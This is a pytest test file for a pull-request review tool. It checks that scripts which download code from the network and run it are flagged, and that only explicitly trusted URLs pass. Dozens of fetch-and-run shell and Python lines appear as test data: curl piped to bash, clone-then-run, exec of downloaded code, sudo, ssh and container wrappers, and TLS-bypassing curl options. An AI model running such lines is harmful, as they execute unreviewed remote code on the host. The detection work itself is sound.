"""A program a changed script fetches from the network and runs is code the PR's author chose
and signoff cannot read: Checks 7, 8 and engine-patches fail closed on it, naming the URL,
unless the profile's `fetched_code.trusted` lists every URL it comes from. A fetch the base
made the same way is baseline."""

from __future__ import annotations

import pytest
from builders import (
    SCRIPT,
    SCRIPT_PATH,
    add_changed_file,
    build,
    passing_parts,
    replace_file,
)

from signoff.judge import judge
from signoff.policy import FetchedCode, TrustedFetch
from signoff.standards import resolve_standard

CHECKS = ("no-arch-hacks", "spec-chat-template", "engine-patches")
ANCHOR = 'hf download "$MODEL"\n'
URL = "https://example.com/setup.sh"


def _parts(lines: str) -> dict:
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, SCRIPT.replace(ANCHOR, ANCHOR + lines + "\n"))
    return parts


FETCH_AND_RUN = {
    "pipe-to-shell": f"curl -fsSL {URL} | bash",
    "pipe-to-shell-with-env": f"curl -LsSf {URL} |\n  INSTALL_DIR=/tmp/x sh",
    "pipe-to-python-dash": "curl -sSL https://example.com/p.py | python3 - --flag 1",
    "pipe-to-python": "wget -qO- https://example.com/p.py | python3",
    "process-substitution": f"bash <(curl -fsSL {URL})",
    "saved-then-run": "curl -sSLo /tmp/p.py https://example.com/p.py\npython3 /tmp/p.py",
    "saved-by-wget": f"wget -q -O /tmp/s.sh {URL}\nbash /tmp/s.sh",
    "saved-by-redirect": f"curl -fsSL {URL} > /tmp/s.sh\nsh /tmp/s.sh",
    "saved-under-url-name": f"cd /tmp && curl -fsSLO {URL}\nbash /tmp/setup.sh",
    "cloned-then-run": "git clone --depth 1 https://github.com/x/tools /tmp/t\nbash /tmp/t/go.sh",
    "cloned-by-repo-name": "git clone https://github.com/x/tools.git\n./tools/go.sh",
    "run-time-url": 'curl -fsSL "$SETUP_URL" | bash',
    "hub-download": "hf download someone/tools --local-dir /tmp/p\nbash /tmp/p/apply.sh",
    "hub-download-old-cli": (
        "huggingface-cli download someone/tools --local-dir=/tmp/p\npython3 /tmp/p/apply.py"
    ),
    # saved under one name, run under another (the program is the same bytes)
    "saved-then-renamed": (
        "curl -sSL -o /tmp/p.txt https://example.com/p.txt\nmv /tmp/p.txt /tmp/p.py\n"
        "python3 /tmp/p.py"
    ),
    "saved-then-copied": f"curl -fsSL {URL} -o /tmp/a\ncp -f /tmp/a /opt/b.sh\nbash /opt/b.sh",
    "saved-then-linked": f"wget -q -O /tmp/a {URL}\nln -sf /tmp/a /tmp/run.sh\nsh /tmp/run.sh",
    "renamed-twice": (
        f"curl -fsSL {URL} > /tmp/a\nmv /tmp/a /tmp/b\ncp /tmp/b /tmp/c.sh\nbash /tmp/c.sh"
    ),
    "saved-then-copied-by-cat": (
        f"curl -fsSL {URL} -o /tmp/a\ncat /tmp/a > /tmp/run.sh\nbash /tmp/run.sh"
    ),
    "clone-renamed": (
        "git clone https://github.com/x/tools /tmp/t\nmv /tmp/t /tmp/u\nbash /tmp/u/go.sh"
    ),
    # run from inside the clone, by a path relative to the directory `cd` went to
    "clone-cd-then-run": "git clone https://github.com/x/tools /tmp/t\ncd /tmp/t\nbash go.sh",
    "clone-cd-dot-slash": "git clone https://github.com/x/tools && cd tools && ./go.sh",
    "clone-cd-python-file": (
        "git clone https://github.com/x/tools /tmp/t\ncd /tmp/t/tune\npython3 run.py"
    ),
    "clone-cd-on-one-branch": (
        'git clone https://github.com/x/tools /tmp/t\nif [ -n "$X" ]; then cd /tmp/t; fi\n'
        "bash go.sh"
    ),
    "clone-cd-relative-chain": (
        "git clone https://github.com/x/tools /opt/tools\ncd /opt\ncd tools/bin\nbash ./go.sh"
    ),
    # an archive fetched and unpacked: its directory holds what the URL served
    "archive-unpacked": (
        "curl -fsSL https://example.com/t.tgz -o /tmp/t.tgz\ntar xzf /tmp/t.tgz -C /tmp/x\n"
        "bash /tmp/x/go.sh"
    ),
    "archive-piped": "curl -fsSL https://example.com/t.tgz | tar -xz -C /tmp/x\nbash /tmp/x/go.sh",
    "zip-unpacked": (
        "wget -q https://example.com/t.zip -O /tmp/t.zip\nunzip -q /tmp/t.zip -d /tmp/x\n"
        "python3 /tmp/x/go.py"
    ),
    # git's own options before `clone`, GitHub's CLI, another downloader
    "git-global-option-clone": "git -C /tmp clone https://github.com/x/tools t\nbash /tmp/t/go.sh",
    "git-config-clone": (
        "git -c http.sslVerify=false clone https://github.com/x/tools /tmp/t\nbash /tmp/t/go.sh"
    ),
    "gh-repo-clone": "gh repo clone x/tools /tmp/t\nbash /tmp/t/go.sh",
    "aria2c": f"aria2c -q -o s.sh {URL}\nbash s.sh",
    # saved (or moved) under a name known only at run time, run by the same word
    "saved-under-run-time-name": f'curl -fsSL {URL} -o "$DEST"\nbash "$DEST"',
    "saved-to-mktemp": f'T=$(mktemp)\ncurl -fsSL {URL} -o "$T"\nbash "$T"',
    "moved-to-run-time-name": f'curl -fsSL {URL} -o /tmp/a\nmv /tmp/a "$DEST"\nsh "$DEST"',
    "wget-to-run-time-name": f'wget -q -O "${{TMPDIR}}/$NAME" {URL}\nbash "$TMPDIR/$NAME"',
    "archive-unpacked-then-cd": (
        "curl -fsSL https://example.com/t.tgz -o /tmp/t.tgz\n"
        "tar --directory=/opt/kit -xf /tmp/t.tgz\ncd /opt/kit\nbash setup.sh"
    ),
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(FETCH_AND_RUN))
def test_a_program_fetched_and_run_fails_closed_naming_where_it_comes_from(check, case, check_id):
    result = check(_parts(FETCH_AND_RUN[case]), check_id)
    assert result.status == "FAIL", result.reason
    assert "a program fetched from" in result.reason
    assert "signoff does not read what a URL serves" in result.reason
    if case == "run-time-url":
        assert "a URL known only at run time" in result.reason
    elif case.startswith("hub-download"):
        assert "`https://huggingface.co/someone/tools`" in result.reason
    elif "example.com" in FETCH_AND_RUN[case]:
        assert "`https://example.com/" in result.reason
    elif "x/tools" in FETCH_AND_RUN[case]:
        assert "`https://github.com/x/tools" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_fetch_the_profile_trusts_is_allowed(policy, check_id):
    decision = "https://github.com/SemiAnalysisAI/InferenceX/pull/1970"
    fetched = FetchedCode(trusted=(TrustedFetch(url=URL, decision=decision),))
    trusting = policy.model_copy(update={"fetched_code": fetched})
    standard = resolve_standard("current", trusting)
    for case in ("pipe-to-shell", "saved-by-wget"):
        verdict = judge(build(_parts(FETCH_AND_RUN[case])), trusting, standard)
        result = next(c for c in verdict.checks if c.id == check_id)
        assert result.status == "PASS", (case, result.reason)
    other = f"curl -fsSL {URL} https://example.com/more.sh | bash"  # one URL it does not list
    verdict = judge(build(_parts(other)), trusting, standard)
    assert next(c for c in verdict.checks if c.id == check_id).status == "FAIL"


@pytest.mark.parametrize(
    "lines",
    [
        "curl -fsSL https://example.com/data.json -o /tmp/data.json\npython3 /tmp/other.py",
        "curl -sf http://localhost:8888/health",
        "git clone https://github.com/x/tools /tmp/t\nbash /tmp/other/go.sh",
        "echo 'curl -o /tmp/s.sh x' > /dev/null\nbash /tmp/s.sh",
        "curl -fsSL https://example.com/d.json -o /tmp/d.json\nmv /tmp/x.sh /tmp/y.sh\n"
        "bash /tmp/y.sh",
        "curl -fsSL https://example.com/d.json -o /tmp/d.json\ncp /tmp/d.json /tmp/e.json\n"
        "bash /tmp/y.sh",
        "git clone https://github.com/x/tools /tmp/t\ncd /tmp/other\nbash go.sh",
        "git clone https://github.com/x/tools /tmp/t\ncd /tmp/t\nnvidia-smi -L",
        "git clone https://github.com/x/tools /tmp/t\ncd /tmp/t\ncd /work\nbash go.sh",
        "git clone https://github.com/x/tools /tmp/t\n(cd /tmp/t && ls)\nbash go.sh",
        'curl -fsSL https://example.com/d.json -o "$DEST"\nbash "$OTHER"',
        "git clone https://github.com/x/tools /tmp/t\ncd /tmp/t\npython3 -m pip install -e .",
        "curl -fsSL https://example.com/t.tgz -o /tmp/t.tgz\ntar xzf /tmp/t.tgz -C /tmp/x\n"
        "bash /tmp/y/go.sh",
    ],
    ids=[
        "other-file",
        "no-program",
        "outside-the-clone",
        "printed-not-run",
        "other-file-renamed",
        "fetched-file-copied-not-run",
        "cd-elsewhere",
        "plain-name-after-cd",
        "cd-then-back",
        "cd-in-a-subshell",
        "run-time-name-other-word",
        "python-module-in-the-clone",
        "archive-not-run",
    ],
)
def test_a_fetch_that_saves_no_program_the_script_runs_is_not_counted(check, lines):
    result = check(_parts(lines), "spec-chat-template")
    assert "a program fetched from" not in result.reason, result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize(
    "lines",
    [
        "git clone https://github.com/x/tools /tmp/t\ncd /tmp/t\nmake -j 8",
        "git clone https://github.com/x/tools /tmp/t\nmake -C /tmp/t setup",
        "git clone https://github.com/x/tools /tmp/t\n(cd /tmp/t && docker compose up -d)",
    ],
    ids=["make-after-cd", "make-dash-c", "compose-in-a-subshell"],
)
def test_make_or_compose_in_a_clone_runs_what_it_fetched(check, lines, check_id):
    # the clone's makefile or compose file says what runs
    result = check(_parts(lines), check_id)
    assert result.status == "FAIL", result.reason
    assert "a program fetched from `https://github.com/x/tools`" in result.reason


def test_an_unchanged_script_that_fetches_and_runs_is_baseline(check):
    """The base ran the same pipeline the same way: the PR changed nothing of it."""
    parts = passing_parts()
    script = SCRIPT.replace(ANCHOR, ANCHOR + FETCH_AND_RUN["pipe-to-shell"] + "\n")
    add_changed_file(parts, SCRIPT_PATH, script + "echo done\n", base=script)
    replace_file(parts, SCRIPT_PATH, "base", script)
    for check_id in CHECKS:
        result = check(parts, check_id)
        assert "a program fetched from" not in result.reason, (check_id, result.reason)


def test_the_shipped_profile_trusts_only_fetches_inferencex_merged(policy):
    urls = {entry.url for entry in policy.fetched_code.trusted}
    assert urls == {
        "https://astral.sh/uv/install.sh",
        "https://raw.githubusercontent.com/NVIDIA-NeMo/Skills/refs/heads/main/nemo_skills/"
        "dataset/speed-bench/prepare.py",
        "https://github.com/kvcache-ai/Mooncake.git",
    }
    for entry in policy.fetched_code.trusted:
        assert "https://github.com/SemiAnalysisAI/InferenceX/pull/" in entry.decision


# Code the script sources or hands Python as its program, fetched: the same class by other routes.
FETCHED_SOURCES = {
    "source-dev-stdin": f'source /dev/stdin <<< "$(curl -fsSL {URL})"',
    "source-saved-file": f"curl -fsSL {URL} -o /tmp/env.sh\nsource /tmp/env.sh",
    "source-process-substitution": f". <(wget -qO- {URL})",
    "python-c-fetched": f'python3 -c "$(curl -fsSL {URL})"',
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(FETCHED_SOURCES))
def test_fetched_code_sourced_or_given_to_python_c_fails_closed(check, case, check_id):
    result = check(_parts(FETCHED_SOURCES[case]), check_id)
    assert result.status == "FAIL", result.reason
    assert (
        "/dev/stdin" in result.reason
        or "example.com" in result.reason
        or ("/tmp/env.sh" in result.reason)
    ), result.reason


def test_an_unchanged_source_of_a_runner_file_stays_baseline_for_engine_patches(check):
    """A file from the image or runner that the PR cannot write keeps its baseline reading."""
    result = check(_parts("source /etc/os-release"), "engine-patches")
    assert result.status == "PASS", result.reason


# A trusted URL is trusted only as a plain fetch: options or settings that change where the
# fetch goes or what it accepts (another address, no TLS check, a config file) serve anything.
@pytest.mark.parametrize(
    "lines",
    [
        "curl -k --resolve astral.sh:443:203.0.113.7 -LsSf https://astral.sh/uv/install.sh | sh",
        "curl -K ./curl.cfg -LsSf https://astral.sh/uv/install.sh | sh",
        "curl --connect-to astral.sh:443:203.0.113.7:443 -LsSf https://astral.sh/uv/install.sh | sh",
        "printf 'insecure\\n' > ~/.curlrc\ncurl -LsSf https://astral.sh/uv/install.sh | sh",
        "export CURL_CA_BUNDLE=/tmp/ca.pem\ncurl -LsSf https://astral.sh/uv/install.sh | sh",
    ],
    ids=["resolve", "config-file", "connect-to", "curlrc", "ca-bundle"],
)
def test_a_trusted_url_fetched_other_than_plainly_is_not_trusted(check, lines):
    result = check(_parts(lines), "engine-patches")
    assert result.status == "FAIL" and "a program fetched from" in result.reason, result.reason


def test_mooncakes_installer_run_from_its_clone_passes_as_inferencex_merged_it(check):
    """The real MI355X agentic shape (#2109): clone, `cd` into it, run its dependency script."""
    lines = (
        "git clone https://github.com/kvcache-ai/Mooncake.git\ncd Mooncake\n"
        "bash dependencies.sh\nmkdir build\ncd build\ncmake ..\nmake -j\ncd ..\ncd .."
    )
    for check_id in CHECKS:
        assert check(_parts(lines), check_id).status == "PASS", check_id
    other = lines.replace("kvcache-ai/Mooncake.git", "someone/Mooncake.git")
    assert check(_parts(other), "engine-patches").status == "FAIL"


@pytest.mark.parametrize(
    "move",
    ["git fetch origin 0123abcd && git checkout FETCH_HEAD", "git reset --hard 0123abcd",
     "git -C /tmp apply /tmp/x.diff", "git pull https://github.com/someone/Mooncake main"],
)  # fmt: skip
def test_a_trusted_clone_put_on_other_code_is_not_trusted(check, move):
    """GitHub serves a fork's commits through the parent repository, so a trusted clone
    moved to another commit (or patched) runs code no maintainer decided on."""
    lines = (
        f"git clone https://github.com/kvcache-ai/Mooncake.git\ncd Mooncake\n{move}\n"
        "bash dependencies.sh"
    )
    for check_id in CHECKS:
        result = check(_parts(lines), check_id)
        assert result.status == "FAIL" and "a program fetched from" in result.reason, check_id


def test_a_trusted_download_stays_trusted_beside_a_checkout_of_something_else(check):
    lines = (
        "git clone https://github.com/x/tools /tmp/t && git -C /tmp/t checkout v1\n"
        "curl -LsSf https://astral.sh/uv/install.sh | sh"
    )
    for check_id in CHECKS:
        assert check(_parts(lines), check_id).status == "PASS", check_id


def test_the_trusted_installer_fetched_plainly_passes(check):
    lines = "curl -LsSf https://astral.sh/uv/install.sh |\n  UV_INSTALL_DIR=/tmp/uv sh"
    for check_id in CHECKS:
        assert check(_parts(lines), check_id).status == "PASS"


def test_moves_are_followed_within_a_bound_and_past_it_every_moved_name_counts():
    """A chain of renames is followed to its end; a reading with more moves than the bound
    follows is read as moving the fetched program to every name a move writes."""
    from signoff.judge.fetched_code import MAX_MOVE_STEPS, Fetch, Saved, _followed

    fetch = Fetch(("https://example.com/a",), True)
    chain = [(frozenset({f"n{i}"}), f"n{i + 1}") for i in range(50)]
    (followed,) = _followed([Saved(fetch, frozenset({"n0"}), None)], chain)
    assert {"n0", "n25", "n50"} <= followed.names
    long = [(frozenset({f"n{i}"}), f"n{i + 1}") for i in range(MAX_MOVE_STEPS + 10)]
    *_, every = _followed([Saved(fetch, frozenset({"n0"}), None)], long)
    assert every.fetch == fetch and f"n{MAX_MOVE_STEPS + 10}" in every.names


PYTHON_FETCH_AND_RUN = {
    "c-exec-urlopen": (
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://example.com/p.py')"
        '.read())"'
    ),
    "heredoc-exec": (
        "python3 - <<'EOF'\nimport urllib.request\n"
        "exec(urllib.request.urlopen('https://example.com/p.py').read())\nEOF"
    ),
    "c-requests-exec": (
        "python3 -c \"import requests; exec(requests.get('https://example.com/p.py').text)\""
    ),
    "saved-and-run-by-runpy": (
        "python3 -u -c \"import runpy, urllib.request as u; open('/tmp/x.py', 'wb').write("
        "u.urlopen('https://example.com/p.py').read()); runpy.run_path('/tmp/x.py')\""
    ),
    "downloaded-by-python-run-by-bash": (
        "python3 -c \"import urllib.request as u; u.urlretrieve('https://example.com/p.py', "
        "'/tmp/p.sh')\"\nbash /tmp/p.sh"
    ),
    "written-by-python-run-by-python": (
        "python3 - <<'EOF'\nimport requests\n"
        "open('/tmp/q.py', 'w').write(requests.get('https://example.com/p.py').text)\nEOF\n"
        "python3 /tmp/q.py"
    ),
    # an environment word the reader cannot know (empty when the job runs) glued to the program
    "run-time-word-before-the-program": (
        'python3 -c "$NOT_SET_HERE import urllib.request as u; '
        "exec(u.urlopen('https://example.com/p.py').read())\""
    ),
    "module-named-at-run-time": (
        "python3 -c \"import os; m = __import__(os.environ['M']); m.go()\""
    ),
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(PYTHON_FETCH_AND_RUN))
def test_inline_python_that_downloads_code_and_runs_it_fails_closed(check, case, check_id):
    result = check(_parts(PYTHON_FETCH_AND_RUN[case]), check_id)
    assert result.status == "FAIL", result.reason
    if case.startswith(("downloaded-by-python", "written-by-python")):
        assert "a program fetched from `https://example.com/p.py`" in result.reason
        assert "(not as a plain fetch)" in result.reason
        return
    assert "an inline Python program that downloads code from" in result.reason
    if case == "module-named-at-run-time":
        assert "a URL known only at run time" in result.reason
    else:
        assert "`https://example.com/p.py`" in result.reason


@pytest.mark.parametrize(
    "program",
    [
        "python3 -c \"import requests; requests.get('http://localhost:8888/health')\"",
        "python3 -c \"import subprocess; subprocess.run(['nvidia-smi'])\"",
        "python3 - <<'EOF'\nimport importlib\nmods = ['vllm', 'vllm.entrypoints']\n"
        "for m in mods: importlib.import_module(m)\nEOF",
        "python3 -c \"import importlib.metadata as m; print(m.version('vllm'))\"",
        "python3 -c \"import json; json.dump({}, open('/tmp/r.json', 'w'))\"\nbash /tmp/r.json",
        "python3 -c \"import requests; open('/tmp/h.txt', 'w').write(requests.get("
        "'http://localhost:8000/health').text)\"\nbash /tmp/other.sh",
        # a word that is no file name (the engine's, the shell's) is not what it saves
        "python3 -c \"from huggingface_hub import snapshot_download as s; s(repo_id='vllm'); "
        "open('/tmp/c.json', 'w').write('bash')\"",
    ],
    ids=[
        "network-alone",
        "running-alone",
        "literal-module-list",
        "metadata",
        "writes-without-network",
        "downloads-a-file-nothing-runs",
        "downloads-with-bare-words",
    ],
)
def test_inline_python_that_cannot_both_download_and_run_code_is_not_counted(check, program):
    for check_id in CHECKS:
        result = check(_parts(program), check_id)
        assert "an inline Python program" not in result.reason, (check_id, result.reason)


def test_such_a_program_in_a_script_the_pr_does_not_change_is_baseline(check):
    """As for a program saved under a name: it counts when the PR changes the script or a file
    it sources (a changed entry that runs an unchanged script reads it as the base did)."""
    parts = passing_parts()
    script = SCRIPT.replace(ANCHOR, ANCHOR + PYTHON_FETCH_AND_RUN["c-exec-urlopen"] + "\n")
    replace_file(parts, SCRIPT_PATH, "head", script)
    replace_file(parts, SCRIPT_PATH, "base", script)
    parts["changed_files"] = [f for f in parts["changed_files"] if f["path"] != SCRIPT_PATH]
    for check_id in CHECKS:
        result = check(parts, check_id)
        assert "an inline Python program" not in result.reason, (check_id, result.reason)
    changed = _parts(PYTHON_FETCH_AND_RUN["c-exec-urlopen"])  # the same text, the script changed
    assert "an inline Python program" in check(changed, "engine-patches").reason


# A shell given a command string behind wrappers that run it on this host is read as the string;
# so is the string other commands hand to `sh -c`.
WRAPPED_STRINGS = {
    "timeout": f"timeout 600 bash -c 'curl -fsSL {URL} | sh'",
    "srun-options": f"srun --jobid=$SLURM_JOB_ID --ntasks=1 bash -c 'curl -fsSL {URL} | sh'",
    "sudo-env": f"sudo -E env A=1 sh -c 'curl -fsSL {URL} | bash'",
    "nice": f"nice -n 5 bash -lc 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'",
    "srun-valued-options": f"srun -p gpu -N 1 bash -c 'curl -fsSL {URL} | sh'",
    "exec": f"exec bash -c 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'",
    # commands that hand a string to `sh -c` by an option, or join their words into one
    "su": f"su root -c 'curl -fsSL {URL} | sh'",
    "runuser": f"runuser -u nobody -- bash -c 'curl -fsSL {URL} | sh'",
    "flock": f"flock /tmp/lock -c 'curl -fsSL {URL} | sh'",
    "script": f"script -qc 'curl -fsSL {URL} | sh' /dev/null",
    "watch": f"watch -n 1 'curl -fsSL {URL} | sh'",
    # code handed, as a word, to a command that runs it some way the reader does not follow:
    # the word itself pipes a fetched program into a shell or Python
    "xargs": f"echo x | xargs -I{{}} sh -c 'curl -fsSL {URL} | sh'",
    "find-exec": f"find . -name x -exec sh -c 'curl -fsSL {URL} | bash' \\;",
    "ssh": f"ssh localhost 'curl -fsSL {URL} | sudo bash -s'",
    "parallel": f"parallel ::: 'curl -fsSL {URL} | sh'",
    "python-os-system": f"python3 -c \"import os; os.system('curl -fsSL {URL} | sh')\"",
    # ... or saves it and runs it by a later command of the same code
    "xargs-saved-then-run": (
        f"echo x | xargs -I{{}} sh -c 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'"
    ),
    "ssh-saved-then-run": f'ssh h "wget -q {URL} -O /tmp/s.sh; sudo -E sh /tmp/s.sh"',
    "find-cloned-then-run": (f"find . -exec sh -c 'git clone {URL} /tmp/t && /tmp/t/go.sh' \\;"),
    "parallel-saved-then-run": f"parallel ::: 'curl -fsSLo /tmp/s.py {URL} && python3 /tmp/s.py'",
    "python-os-system-saved-then-run": (
        f"python3 -c \"import os; os.system('curl -o /tmp/x.py {URL}; python3 -u /tmp/x.py')\""
    ),
    # ... or hands the fetch's output straight to something that runs it
    "container-substituted": f"docker exec c sh -c 'bash -c \"$(curl -fsSL {URL})\"'",
    "container-eval": f"docker exec c sh -c 'eval \"$(wget -qO- {URL})\"'",
    "parallel-process-substitution": f"parallel ::: 'source <(curl -fsSL {URL})'",
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(WRAPPED_STRINGS))
def test_fetched_code_in_a_string_behind_wrappers_or_handed_as_a_word_fails_closed(
    check, case, check_id
):
    result = check(_parts(WRAPPED_STRINGS[case]), check_id)
    assert result.status == "FAIL", result.reason
    assert URL in result.reason


@pytest.mark.parametrize(
    "line",
    [
        f"echo 'curl -fsSL {URL} | sh' > /tmp/how-to.txt",  # printed, never run
        "grep -q 'bash' /tmp/log | tee /tmp/out",
        f"curl -fsSL {URL} -o /tmp/notes.txt",
        # handed code that fetches but runs nothing after: health checks, a saved file read
        "ssh h 'curl -sf http://localhost:8000/health && echo up'",
        "echo x | xargs -I{} sh -c 'curl -s \"$1\" -o /dev/null; echo done' _ {}",
        "find . -name '*.json' -exec sh -c 'curl -s -d @\"$1\" http://localhost:8000/' _ {} \\;",
        # a string the reader reads as code is judged by that reading, not as a handed word
        "timeout 60 bash -c 'curl -sf http://localhost:8000/health; python3 -m json.tool x.json'",
        "su root -c 'curl -sf http://localhost:8000/health && python3 -m json.tool x.json'",
    ],
)
def test_words_that_run_no_fetched_program_are_not_counted(check, line):
    result = check(_parts(line), "engine-patches")
    assert result.status == "PASS", result.reason


# An archive unpacked into the current directory may put any relative path there.
UNPACKED_HERE = {
    "piped": "curl -fsSL https://example.com/t.tgz | tar xz\nbash go.sh",
    "saved": "wget -q https://example.com/t.tgz -O t.tgz && tar xzf t.tgz && ./install.sh",
    "after-cd": "cd /tmp && curl -fsSL https://example.com/t.tgz | tar -xz && bash tools/go.sh",
    "unzip": "curl -fsSLo t.zip https://example.com/t.zip\nunzip -q t.zip\npython3 run.py",
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(UNPACKED_HERE))
def test_a_relative_program_beside_an_archive_unpacked_here_is_fetched(check, case, check_id):
    result = check(_parts(UNPACKED_HERE[case]), check_id)
    assert result.status == "FAIL", result.reason
    assert "https://example.com/t." in result.reason


def test_an_archive_unpacked_here_leaves_absolute_programs_alone(check):
    lines = "curl -fsSL https://example.com/data.tgz | tar xz\nbash /opt/tools/prepare.sh"
    assert check(_parts(lines), "engine-patches").status == "PASS"


# The dynamic linker loads a server's native libraries from LD_LIBRARY_PATH: a directory a fetch
# filled is native code the URL serves, loaded into the engine.
FETCHED_LIBRARIES = {
    "clone": "git clone https://example.com/libs /tmp/libs\n"
    "export LD_LIBRARY_PATH=/tmp/libs/lib:$LD_LIBRARY_PATH",
    "unpacked-into": "mkdir -p /tmp/l && curl -fsSL https://example.com/l.tgz | tar xz -C /tmp/l\n"
    "export LD_LIBRARY_PATH=/tmp/l:${LD_LIBRARY_PATH:-}",
    "unpacked-here": "cd /tmp && curl -fsSL https://example.com/l.tgz | tar xz\n"
    "export LD_LIBRARY_PATH=lib:$LD_LIBRARY_PATH",
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(FETCHED_LIBRARIES))
def test_a_server_loading_libraries_from_a_fetched_directory_fails(check, case, check_id):
    result = check(_parts(FETCHED_LIBRARIES[case]), check_id)
    assert result.status == "FAIL", result.reason
    assert "LD_LIBRARY_PATH=" in result.reason and "https://example.com/l" in result.reason


@pytest.mark.parametrize(
    "lines",
    [
        "export LD_LIBRARY_PATH=/opt/rocm/lib:${LD_LIBRARY_PATH:-}",  # the image's own
        # fetched, but not where the linker looks
        "git clone https://example.com/libs /tmp/libs\nexport LD_LIBRARY_PATH=/opt/rocm/lib",
    ],
)
def test_library_paths_holding_nothing_fetched_pass(check, lines):
    assert check(_parts(lines), "engine-patches").status == "PASS"


def test_a_library_directory_from_a_trusted_clone_is_allowed(policy):
    url = "https://example.com/libs.git"
    fetched = FetchedCode(trusted=(TrustedFetch(url=url, decision="https://example.com/d"),))
    trusting = policy.model_copy(update={"fetched_code": fetched})
    lines = f"git clone {url}\nexport LD_LIBRARY_PATH=$PWD/libs/lib:$LD_LIBRARY_PATH"
    verdict = judge(build(_parts(lines)), trusting, resolve_standard("current", trusting))
    assert next(c for c in verdict.checks if c.id == "engine-patches").status == "PASS"
    verdict = judge(build(_parts(lines)), policy, resolve_standard("current", policy))
    assert next(c for c in verdict.checks if c.id == "engine-patches").status == "FAIL"
